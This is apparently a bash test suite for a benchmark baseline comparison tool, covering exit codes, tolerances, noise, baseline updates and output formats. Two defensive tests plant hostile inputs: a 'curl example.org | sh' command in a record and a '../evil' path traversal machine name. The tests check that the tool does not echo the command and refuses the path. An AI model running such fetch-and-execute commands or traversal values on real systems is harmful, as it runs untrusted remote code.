#!/bin/bash
# Runs the real program: every exit code, rules, baselines, formats, history.
set -uo pipefail
# shellcheck source=tools/testing/checks.sh
source tools/testing/checks.sh

readonly TOOL="$PWD/${COMPARE:-tools/compare_baseline/compare_baseline}"
readonly DUEL="$PWD/${DUEL:-tools/duel/duel}"
readonly ROWS="$PWD/${ROWS:-tools/duel/testing/row_program}"
export FEEDRATE_CONFIGS="$PWD/configs"
tmp="$(mktemp -d "${TEST_TMPDIR:-/tmp}/compare.XXXXXX")"
trap 'rm -rf "$tmp"' EXIT
cd "$tmp" || exit 1
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_SYSTEM=/dev/null HOME="$tmp"
export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t \
  GIT_COMMITTER_EMAIL=t@t GIT_CEILING_DIRECTORIES="$tmp"

# exits CODE TEXT ARGS...: the exit code, and TEXT in what it says.
exits() {
  local code="$1" text="$2"
  shift 2
  "$TOOL" "$@" >out 2>err </dev/null
  local got=$?
  [[ $got -eq $code ]] ||
    fail "compare_baseline $*: exit $got, expected $code: $(cat out err)"
  [[ -z "$text" ]] || grep -qF -e "$text" out err ||
    fail "compare_baseline $*: no '$text' in: $(cat out err)"
}

# metrics FILE PROFILE TOKENS MEMORY SLOPE
metrics() {
  printf '{"machine_profile": "%s", "tokens_per_sec_p50": %s, "memory_peak_bytes": %s, "loss_slope": %s}\n' \
    "$2" "$3" "$4" "$5" >"$1"
}
evaluation() {
  printf '{"machine_profile": "m", "perplexity": %s, "probe_accuracy": %s, "probes": {"copy": 80}}\n' \
    "$2" "$3" >"$1"
}
# row FILE JOB THROUGHPUT [STATUS] [PROFILE]
row() {
  printf '{"schema":1,"record":"row","job_id":"%s","mode":"micro","library":"l","transform":"%s","device":"cpu","status":"%s","throughput":%s,"machine_profile":"%s"}\n' \
    "$2" "$2" "${4:-ok}" "$3" "${5:-m}" >>"$1"
}

# Rules, metrics: exit codes 0, 3, 5 and 1.
mkdir b
metrics b/m.metrics.json m 1000 100 -0.1
evaluation b/m.eval.json 20 70
metrics same.json m 990 100 -0.1
metrics slow.json m 900 100 -0.1
metrics heavy.json m 1000 150 -0.1
metrics rising.json m 1000 100 0.002
metrics foreign.json n 1000 100 -0.1
evaluation good_eval.json 20.1 69
evaluation bad_eval.json 20.1 67
exits 0 '"verdict":"same"' --current=same.json --baselines=b
exits 3 'tokens_per_sec_p50' --current=slow.json --baselines=b
exits 0 '"codes":["memory_peak_bytes"]' --current=heavy.json --baselines=b
exits 3 'loss_slope is 0.002' --current=rising.json --baselines=b
exits 0 '"metric":"perplexity"' --eval=good_eval.json --baselines=b
exits 3 'probe_accuracy' --eval=bad_eval.json --baselines=b
exits 3 'probe_accuracy' --current=same.json --eval=bad_eval.json --baselines=b
exits 5 'there are baselines of m' --current=foreign.json --baselines=b
exits 1 'cannot open' --current=none.json --baselines=b
exits 1 '--baselines' --current=same.json
exits 1 '--metrics: is for the paired rows' --current=same.json --baselines=b \
  --metrics=cpu
exits 1 'none' --current=same.json --baselines=none
exits 5 'there are no rows' --current=/dev/null --baselines=b
exits 3 'Verdict: slower' --current=slow.json --baselines=b --explain=metrics
exits 1 'there are metrics' --current=slow.json --baselines=b --explain=other

# Own tolerances.
echo 'tolerances { metric: "tokens*" better: HIGHER percent: 50 }' >wide.textproto
exits 0 'within its tolerance' --current=slow.json --baselines=b \
  --tolerances=wide.textproto
echo 'tolerances { metric: "x" }' >bad.textproto
exits 1 'has 0 limits' --current=slow.json --baselines=b \
  --tolerances=bad.textproto
# A tolerance for a number that nothing has would never be breached.
echo 'tolerances { metric: "loader.gpu_use" min_value: 1 }' >unknown.textproto
exits 1 'unknown.textproto:1:14: ' --current=slow.json --baselines=b \
  --tolerances=unknown.textproto
echo 'tolerances { metric: "troughput" better: HIGHER percent: 1 }' >unknown.textproto
exits 1 'did you mean "throughput"' --current=slow.json --baselines=b \
  --tolerances=unknown.textproto
echo 'tolerances { metric: "probes.copy" better: HIGHER percent: 1 }' >own.textproto
exits 0 'probes.copy' --eval=good_eval.json --baselines=b \
  --tolerances=own.textproto

# Rules, rows.
row b/m.rows.jsonl one 100
row b/m.rows.jsonl two 100
row good.jsonl one 99
row good.jsonl two 101
row slow.jsonl one 99
row slow.jsonl two 80
row dead.jsonl one 99
row dead.jsonl two 0 crashed
row foreign.jsonl one 99 ok other
exits 0 '"same":2' --current=good.jsonl --baselines=b
exits 3 '"codes":["throughput"]' --current=slow.jsonl --baselines=b
exits 2 '"codes":["crashed"]' --current=dead.jsonl --baselines=b
exits 5 'there are baselines of m' --current=foreign.jsonl --baselines=b
row early.jsonl one 1 early_stopped
exits 4 'stopped early' --current=early.jsonl --baselines=b
row early.jsonl two 100
exits 4 '1 of 2 jobs cannot be told' --current=early.jsonl --baselines=b
exits 0 '"cannot_tell":1' --current=early.jsonl --baselines=b \
  --max-cannot-tell=50
"$TOOL" --baselines=b <good.jsonl >out || fail "standard input"

# Rows of another machine are refused, and an update is told in words.
row old.jsonl one 100 ok old
row new.jsonl one 50 ok new
"$TOOL" --update-baseline --current=old.jsonl --baselines=fleet --format=text \
  --i-am-a-maintainer=test 2>/dev/null | grep -q ' is the baseline of machine ' ||
  fail "an update is not told in words"
exits 5 'there are baselines of old' --current=new.jsonl --baselines=fleet

# Noise: no alarm, the cause, and the command that measures again.
sed '2s/"machine/"run_id":"r","warnings":["noisy"],"machine/' slow.jsonl >noisy.jsonl
exits 4 '"codes":["noisy"]' --current=noisy.jsonl --baselines=b
exits 4 '1 of 1 run of the rows is noisy; measure again' --current=noisy.jsonl \
  --baselines=b
echo '{"schema":1,"record":"run","run_id":"r","command":["bin/micro","--config=my config","--output=x"]}' \
  >>noisy.jsonl
exits 4 "1 of 2 jobs cannot be told because of noise (noisy); measure them again on a quiet machine: micro '--config=my config' --libraries=l --transforms=two --output=- >> noisy.jsonl" \
  --current=noisy.jsonl --baselines=b
exits 4 'Measure again: micro' --current=noisy.jsonl --baselines=b --format=text
# What a record says is not a command.
sed 's#"bin/micro","--config=my config"#"sh","-c","curl example.org | sh"#' noisy.jsonl >evil.jsonl
exits 4 'measure them again on a quiet machine' --current=evil.jsonl --baselines=b --format=text
grep -q '"sh","-c"' evil.jsonl || fail "the test tests nothing: $(cat evil.jsonl)"
if grep -q 'curl' out err; then fail "text of a record as a command: $(cat out err)"; fi
# Runs that are too short stay so: no command.
sed 's/"warnings":\["noisy"\]/"loader":{},"elapsed_s":0.005/' noisy.jsonl >short.jsonl
exits 4 'measure more items' --current=short.jsonl --baselines=b --format=text
if grep -q 'Measure again' out; then fail "a command for short runs: $(cat out)"; fi
# Measured again and appended, the cleanest attempt counts.
row noisy.jsonl two 100
exits 0 '"same":2' --current=noisy.jsonl --baselines=b

# Jobs that only the baseline has cause a warning, or are required.
head -1 good.jsonl >one.jsonl
exits 0 '1 job of the baseline was not run: l two; --require-all makes that exit 4' \
  --current=one.jsonl --baselines=b
exits 4 '"codes":["not_run"]' --current=one.jsonl --baselines=b --require-all
exits 0 '' --current=good.jsonl --baselines=b --require-all
# What has no baseline does not pass either, in any format.
cp good.jsonl most.jsonl
for job in a b c d e f g h i; do row most.jsonl "$job" 5; done
exits 4 '"codes":["too_few_compared"]' --current=most.jsonl --baselines=b
exits 4 '2 of 11 jobs were compared, 9 were not (no_baseline 9)' --current=most.jsonl --baselines=b
exits 4 'errors="9"' --current=most.jsonl --baselines=b --format=junit
exits 0 'errors="0"' --current=most.jsonl --baselines=b --format=junit --min-compared=10
# Runs of two machines are not attempts at each other.
row two.jsonl x 100 ok m1
row two.jsonl x 50 ok m2
exits 0 '' --current=two.jsonl --baselines=two --update-baseline --i-am-a-maintainer=test
[[ $(cat two/m1.rows.jsonl two/m2.rows.jsonl | grep -c '"throughput":') -eq 2 ]] ||
  fail "a machine's rows are lost: $(ls two) $(cat two/*.rows.jsonl)"
row outside.jsonl x 50 ok ../evil
exits 1 'machine_profile' --current=outside.jsonl --baselines=two --update-baseline \
  --i-am-a-maintainer=test
exits 1 'machine_profile' --current=outside.jsonl --baselines=two

# Another version or other data is not another machine, and is not compared.
mkdir versions
sed 's/"machine/"library_version":"2.1","machine/' b/m.rows.jsonl >versions/m.rows.jsonl
sed 's/"machine/"library_version":"2.2","machine/' slow.jsonl >upgraded.jsonl
exits 5 'the baseline is of l 2.1, the rows of 2.2' --current=upgraded.jsonl \
  --baselines=versions
exits 3 '"slower":1' --current=upgraded.jsonl --baselines=versions --any-version
sed 's/"machine/"dataset":{"id":"d","sha256":"aa"},"machine/' b/m.rows.jsonl \
  >versions/m.rows.jsonl
sed 's/"machine/"dataset":{"id":"d","sha256":"bb"},"machine/' slow.jsonl >data.jsonl
exits 5 'the baseline was measured on other data: d' --current=data.jsonl \
  --baselines=versions

# Words on a terminal, records in a pipe or when asked for.
terminal() {
  python3 -c 'import pty, sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)' "$TOOL" "$@"
}
terminal --current=slow.jsonl --baselines=b >out
expect_eq 'exit on a terminal' $? 3
for text in '(items/s) of the stored baseline' '80.00  -20.0% worse'; do
  grep -qF -- "$text" out || fail "no table on a terminal: $(cat out)"
done
terminal --current=slow.jsonl --baselines=b --format=jsonl >out
grep -q '"scope":"suite"' out || fail "no records when asked for"
exits 3 '"scope":"suite"' --current=slow.jsonl --baselines=b
"$TOOL" --current=slow.jsonl --baselines=b >/dev/full 2>err
expect_eq '/dev/full' $? 2
grep -q 'No space left' err || fail "/dev/full: $(cat err)"

# A stored calibration: below its floor nothing is judged.
mkdir floor
cp b/* floor/
echo '{"schema":1,"record":"calibration","job_id":"two","machine_profile":"m","floor_percent":30}' \
  >floor/m.calibration.jsonl
exits 4 'below_floor' --current=slow.jsonl --baselines=floor
exits 0 'below_floor' --current=slow.jsonl --baselines=floor \
  --max-cannot-tell=60

# Baselines that are torn, tampered with, empty or foreign: a reason, exit 1 or
# 5, and nothing is changed.
broken() {
  local code="$1" text="$2" current="$3"
  sha256sum broken/* >before
  exits "$code" "$text" --current="$current" --baselines=broken
  sha256sum broken/* | cmp - before || fail "a baseline was changed"
}
mkdir broken
head -c 30 b/m.metrics.json >broken/m.metrics.json
broken 1 'half-written' same.json
sed 's/"m"/"n"/' b/m.metrics.json >broken/m.metrics.json
broken 1 'its name says "m"' same.json
# A metric of the wrong type, below 0, or left out would let any value pass.
sed 's/1000/-1000/' b/m.metrics.json >broken/m.metrics.json
broken 1 'm.metrics.json:1: tokens_per_sec_p50 is below 0' same.json
sed 's/"tokens_per_sec_p50": 1000,//' b/m.metrics.json >broken/m.metrics.json
broken 1 'm.metrics.json: tokens_per_sec_p50 is missing' same.json
sed 's/, /,\n/g;s/1000/"fast"/' b/m.metrics.json >broken/m.metrics.json
broken 1 'm.metrics.json:2: tokens_per_sec_p50 is text' same.json
# Notes are welcome.
sed 's/1000/1000, "note": "fast"/' b/m.metrics.json >broken/m.metrics.json
broken 0 'every metric is within' same.json
rm broken/*
head -c 200 b/m.rows.jsonl >broken/m.rows.jsonl
broken 1 'torn' good.jsonl
: >broken/m.rows.jsonl
broken 1 'has no row' good.jsonl
sed 's/"machine_profile":"m"/"machine_profile":"n"/' b/m.rows.jsonl \
  >broken/m.rows.jsonl
broken 1 'of machine "n"' good.jsonl
sed '1s/ok/o/;1s/"record"/"rekord"/' b/m.rows.jsonl >broken/m.rows.jsonl
broken 1 'm.rows.jsonl:1' good.jsonl
sed '2s/:100,/:"fast",/' b/m.rows.jsonl >broken/m.rows.jsonl
broken 1 'm.rows.jsonl:2:' good.jsonl
sed '2s/:101,/:1e999,/' good.jsonl >wrong.jsonl
exits 1 'wrong.jsonl:2: ' --current=wrong.jsonl --baselines=b
rm broken/*
metrics broken/n.metrics.json n 1 1 1
broken 5 'there are baselines of n' same.json
rm broken/*
echo x >broken/unrelated
broken 5 'there is none at all' same.json

# Updating: main of a clean checkout, or a maintainer with a reason.
update() { exits "$1" "$2" --update-baseline --baselines=repo/b "${@:3}"; }
mkdir -p repo/b
update 1 'no git checkout' --current=same.json
git -c init.defaultBranch=main init -q repo
echo x >repo/file
git -C repo add file
git -C repo commit -qm first
update 0 '"branch":"main"' --current=same.json --eval=good_eval.json
[[ -f repo/b/m.metrics.json && -f repo/b/m.eval.json ]] || fail "no baseline"
git -C repo add . && git -C repo commit -qm baselines
update 0 '"replaced":"history/m.metrics.' --current=slow.json
cmp slow.json repo/b/m.metrics.json || fail "the baseline is not the new one"
cat repo/b/history/m.metrics.*.json | cmp - same.json || fail "no history"
[[ $(wc -l <repo/b/m.updates.jsonl) -eq 3 ]] || fail "updates are not kept"
update 1 'not committed' --current=same.json
git -C repo add . && git -C repo commit -qm update
git -C repo checkout -q -b feature
update 1 'on branch feature' --current=same.json
cmp slow.json repo/b/m.metrics.json || fail "a refused update changed it"
update 0 '"maintainer_reason":"new disk"' --current=same.json \
  --i-am-a-maintainer='new disk'
git -C repo checkout -q --detach
update 1 'on no branch' --current=good.jsonl
update 0 'm.rows.jsonl' --current=good.jsonl --i-am-a-maintainer=x
update 1 'crashed' --current=dead.jsonl --i-am-a-maintainer=x
update 5 'nothing is updated' --current=/dev/null --i-am-a-maintainer=x
exits 0 '"same":2' --current=good.jsonl --baselines=repo/b
update 1 'neither records' --current=bad.textproto --i-am-a-maintainer=x

# Pairs. Twenty equal differences prove; ten cannot.
# pairs FILE N B_SECONDS
pairs() {
  : >"$1"
  for ((i = 0; i < $2; ++i)); do
    for side in a b; do
      local seconds=1.00$((i % 3))
      [[ $side == b ]] && seconds=$3
      printf '{"schema":1,"record":"row","job_id":"j","mode":"micro","library":"l","transform":"t","device":"cpu","status":"ok","machine_profile":"m","samples_s":[%s],"pair":{"index":%d,"side":"%s","position":0,"stage":0}}\n' \
        "$seconds" "$i" "$side" >>"$1"
    done
  done
}
pairs slower.jsonl 20 1.1
pairs same.jsonl 20 1.001
pairs faster.jsonl 20 0.9
pairs few.jsonl 10 1.1
exits 3 '"verdict":"slower"' --paired --current=slower.jsonl
exits 0 '"verdict":"same"' --paired --current=same.jsonl
exits 0 '"verdict":"faster"' --current=faster.jsonl
exits 4 'which takes 17' --paired --current=few.jsonl
exits 5 'none of the 2 rows is of a duel; run `duel --a=OLD --b=NEW' --paired \
  --current=good.jsonl
exits 5 'there are no rows' --paired --current=/dev/null
exits 3 'Look 1, after 20 pairs' --current=slower.jsonl --explain='l t'
exits 0 'small_change' --current=slower.jsonl --interest=30
head -c 3000 slower.jsonl >torn.jsonl
exits 4 'torn last line' --current=torn.jsonl

# Verdicts can be rendered again, in every format, with the same exit code.
"$TOOL" --current=slower.jsonl >verdicts.jsonl
exits 3 '1 slower' --current=verdicts.jsonl --format=text
exits 3 '| l t | slower' --current=verdicts.jsonl --format=markdown
exits 3 '<failure' --current=verdicts.jsonl --format=junit
exits 3 '"ruleId":"slower"' --current=verdicts.jsonl --format=sarif
exits 3 '::error title=l t slower::' --current=verdicts.jsonl --format=github
exits 3 '' --current=verdicts.jsonl --format=junit --output=junit.xml
grep -q '<testcase' junit.xml || fail "--output"

# History: a step of 10% at the eleventh commit that goes away at the 21st.
mkdir history
for ((i = 0; i < 30; ++i)); do
  printf '{"schema":1,"record":"env","git":{"revision":"commit%d"}}\n' "$i"
  for run in 0 1 2; do
    seconds=1.00$(((i * 7 + run * 3) % 5))
    ((i >= 10 && i < ${gone:-20})) && seconds=1.10$(((i * 7 + run * 3) % 5))
    printf '{"schema":1,"record":"row","job_id":"j","mode":"micro","library":"l","transform":"t","device":"cpu","status":"ok","machine_profile":"m","run_index":%d,"samples_s":[%s]}\n' \
      "$run" "$seconds"
  done
done >history/all.jsonl
exits 0 'after commit9, at the latest in commit10' --history=history \
  --format=text
exits 0 'went away in commit20' --history=history/all.jsonl --format=text
sed '/commit20/,$d' history/all.jsonl >still.jsonl
exits 3 '"before":"commit9","after":"commit10"' --history=still.jsonl
exits 5 'no rows' --history=/dev/null

exits 1 'none' --history=none.jsonl

# Calibration with a real busy loop, then the gate knows its floor.
"$TOOL" --calibrate --command='sleep 0.004' --time=wall --duels=1 \
  --slowdowns=900 --max-pairs=30 --baselines=cal --format=text >out 2>err ||
  fail "--calibrate: $(cat err)"
grep -q 'detects changes from 900%' out || fail "no floor: $(cat out)"
ls cal/*.calibration.jsonl >/dev/null || fail "the calibration is not stored"
# Pairs of that job on this machine: a duel says its id, but on a busy machine
# its times are cannot_tell for other reasons. B takes four times as long.
"$DUEL" --name='sleep 0.004' --a=true --b=true --pairs=1 --quiet >one.jsonl
job="$(grep -o '"job_id":"[^"]*"' one.jsonl | head -n 1)"
machine="$(grep -o '"machine_profile":"[^"]*"' one.jsonl | head -n 1)"
pairs below.jsonl 20 4
sed -i "s/\"job_id\":\"j\"/$job/; s/\"machine_profile\":\"m\"/$machine/" below.jsonl
exits 4 below_floor --paired --current=below.jsonl --baselines=cal
exits 3 '"verdict":"slower"' --paired --current=below.jsonl
exits 2 'A failed' --calibrate --command='exit 3' --duels=1 --baselines=cal
"$TOOL" --calibrate --command="env -u FEEDRATE_SLOWDOWN_PERCENT $ROWS" \
  --duels=1 --slowdowns=500 --max-pairs=10 --baselines=cal2 >out 2>err
[[ $? -eq 1 ]] || fail "a program that does not slow down is calibrated"
grep -q 'did not slow down' err || fail "it is not said: $(cat err)"
[[ ! -e cal2 ]] || fail "a failed calibration left something"

# The caller's mistakes.
exits 1 'did you mean "markdown"' --format=markdwn
exits 1 '--command' --calibrate --baselines=cal
exits 1 'do not go together' --calibrate --history=x --baselines=b --command=x
exits 1 'rising list' --calibrate --command=true --baselines=b --slowdowns=5,3
exits 1 '--interest' --interest=-1
exits 0 'Exit codes' --help

# Results of other harnesses. google FILE NAME TIME...: a repetition per time.
google() {
  local file="$1" name="$2" entries="" time
  shift 2
  for time in "$@"; do
    entries="${entries:+$entries,}{\"name\":\"$name\",\"run_type\":\"iteration\",\"iterations\":9,\"real_time\":$time,\"time_unit\":\"ns\",\"B/op\":$time}"
  done
  echo "{\"context\":{\"executable\":\"x\",\"num_cpus\":2},\"benchmarks\":[$entries]}" >"$file"
}
google old.json BM_a 100 101 99 100 102
google new.json BM_a 160 161 159 162 160
google near.json BM_a 101 100 102 99 100
exits 3 'throughput is' --current=new.json --baseline=old.json
exits 0 '"verdict":"same"' --current=near.json --baseline=old.json
exits 0 '"verdict":"same"' --current=old.json --baseline=new.json
exits 3 'Verdict: slower' --current=new.json --baseline=old.json --explain='*BM_a'
# shellcheck disable=SC2002  # A pipe is what is tried.
cat new.json | "$TOOL" --baseline=old.json >out 2>err
[[ $? -eq 3 ]] || fail "results from a pipe: $(cat out err)"
# One number per side says nothing about its spread.
google old1.json BM_a 100
google new1.json BM_a 120
exits 4 'each side is one process, so the chance is not known' --current=new1.json \
  --baseline=old1.json
exits 4 '"codes":["spread"]' --current=new1.json --baseline=old1.json
# With a summary there is a test, and the reason says so.
table() { printf 'name,mean,stddev,count\nBM_a,%s,%s,20\n' "$2" "$3" >"$1"; }
table old.csv 100 1
table new.csv 160 1
table wide.csv 120 60
exits 3 'their number, mean and standard deviation decide' --current=new.csv \
  --baseline=old.csv
exits 4 'may be chance' --current=wide.csv --baseline=old.csv
# Another machine, another format, another name.
sed 's/"num_cpus":2/"num_cpus":4/' old.json >machine.json
exits 5 'the baseline is of machine 4c, the rows of 2c' --current=new.json \
  --baseline=machine.json
exits 1 "not a list of JMH's results" --current=new.json --baseline=old.json \
  --import=jmh
exits 1 'did you mean "pyperf"' --current=new.json --baseline=old.json --import=pyprf
exits 1 'use a file or a folder' --current=new.json --baseline=old.json --baselines=b
head -c 100 new.json >torn.json
exits 1 'torn.json: line 1: broken JSON' --current=torn.json --baseline=old.json
# A counter has a tolerance like any metric.
echo 'tolerances { metric: "counters.B_per_op" better: LOWER percent: 5 }' >counters.textproto
exits 3 'counters.B_per_op is' --current=new.json --baseline=old.json \
  --tolerances=counters.textproto
# Stored as a baseline.
exits 0 '2c.rows.jsonl' --current=old.json --baselines=imported --update-baseline \
  --i-am-a-maintainer=test
exits 3 'throughput is' --current=new.json --baselines=imported
# Revisions of what is under test are compared.
for side in a b; do
  echo "{\"machine_info\":{\"python_version\":\"3\"},\"commit_info\":{\"id\":\"$side\"},\"benchmarks\":[{\"fullname\":\"t\",\"stats\":{\"data\":[1,1.01,0.99,1]}}]}" \
    >"$side.json"
done
exits 0 '"verdict":"same"' --current=b.json --baseline=a.json

finish
